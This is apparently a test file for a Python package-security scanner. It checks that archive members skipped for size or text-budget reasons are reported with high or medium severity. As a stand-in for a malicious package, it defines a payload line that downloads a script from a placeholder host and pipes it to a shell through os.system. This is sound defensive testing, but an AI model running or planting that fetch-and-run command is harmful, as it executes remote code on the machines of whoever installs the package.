"""What the package reader's budgets stop is reported (PKG017), never dropped in silence: a
source file past the size one source may take, sources past the package's text budget (the
corrupt, encrypted and truncated members are rule fixtures, ``tests/fixtures/rules/PKG017``)."""

from __future__ import annotations

import io
import zipfile

from outwork.analyzers.packages.package import Limits, Unread, analyze_files, read_archive
from outwork.analyzers.packages.rules import UnreadMember
from outwork.core.rules import Severity
from tests.analyzers.packages.helpers import sdist, wheel

PAYLOAD = "import os\nos.system('curl -s https://example.invalid/p | sh')\n"


def _unread(data: bytes, name: str, limits: Limits) -> list[tuple[Severity, str]]:
    files = read_archive(io.BytesIO(data), name, limits)
    assert files is not None
    verdict = analyze_files(files)
    return [(s.severity, s.evidence) for s in verdict.signals if s.rule is UnreadMember]


def test_a_source_past_the_member_budget_is_high() -> None:
    padded = "# " + "x" * 4000 + "\n" + PAYLOAD
    data = sdist(
        "padded", "1.0", {"setup.py": "from setuptools import setup\n", "pad/a.py": padded}
    )
    found = _unread(data, "padded-1.0.tar.gz", Limits(member_bytes=1024))
    assert [severity for severity, _ in found] == [Severity.HIGH]
    assert "padded-1.0/pad/a.py: not analysed: larger than" in found[0][1]


def test_sources_past_the_text_budget_are_high() -> None:
    files = {f"many/m{i}.py": f"X = {i}\n" + "# pad\n" * 200 for i in range(20)}
    data = wheel("many", "1.0", {**files, "many/__init__.py": PAYLOAD})
    found = _unread(data, "many-1.0-py3-none-any.whl", Limits(text_bytes=4096))
    assert [severity for severity, _ in found] == [Severity.HIGH]
    assert "MiB kept of them" in found[0][1]


def test_an_ordinary_package_reads_whole() -> None:
    data = wheel("plain", "1.0", {"plain/__init__.py": "def f():\n    return 1\n"})
    files = read_archive(io.BytesIO(data), "plain-1.0-py3-none-any.whl", Limits())
    assert files is not None
    assert files.notes == []
    assert _unread(data, "plain-1.0-py3-none-any.whl", Limits()) == []


def test_unread_reads_as_the_reason() -> None:
    assert str(Unread("a/b.py", "encrypted, not readable")) == "a/b.py: encrypted, not readable"
    assert str(Unread("", "EOF")).startswith("archive could not be read completely")


def test_tests_past_the_text_budget_are_medium() -> None:
    tests = {
        f"tests/test_m{i}.py": f"def test_{i}():\n    assert {i}\n" + "# pad\n" * 200
        for i in range(20)
    }
    data = sdist(
        "big",
        "1.0",
        {"setup.py": "from setuptools import setup\n", "big/__init__.py": "X = 1\n", **tests},
    )
    found = _unread(data, "big-1.0.tar.gz", Limits(text_bytes=4096))
    assert [severity for severity, _ in found] == [Severity.MEDIUM]
    # the twin: a test module the package's own code imports runs as part of the package
    data = sdist(
        "big",
        "1.0",
        {
            "setup.py": "from setuptools import setup\n",
            "big/__init__.py": "from tests import test_m19\n",
            **tests,
        },
    )
    found = _unread(data, "big-1.0.tar.gz", Limits(text_bytes=4096))
    assert [severity for severity, _ in found] == [Severity.HIGH]


def test_a_wheel_whose_metadata_comes_after_the_text_budget_is_still_judged() -> None:
    # a wheel's dist-info comes last: without it the archive would not be known as a package
    files = {f"late/m{i}.py": f"X = {i}\n" + "# pad\n" * 200 for i in range(20)}
    data = wheel("late", "1.0", {})
    members = {**files, "late/__init__.py": PAYLOAD}

    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as original, zipfile.ZipFile(buffer, "w") as out:
        for name, text in members.items():
            out.writestr(name, text)
        for info in original.infolist():
            out.writestr(info.filename, original.read(info))
    found = _unread(buffer.getvalue(), "late-1.0-py3-none-any.whl", Limits(text_bytes=4096))
    assert [severity for severity, _ in found] == [Severity.HIGH]
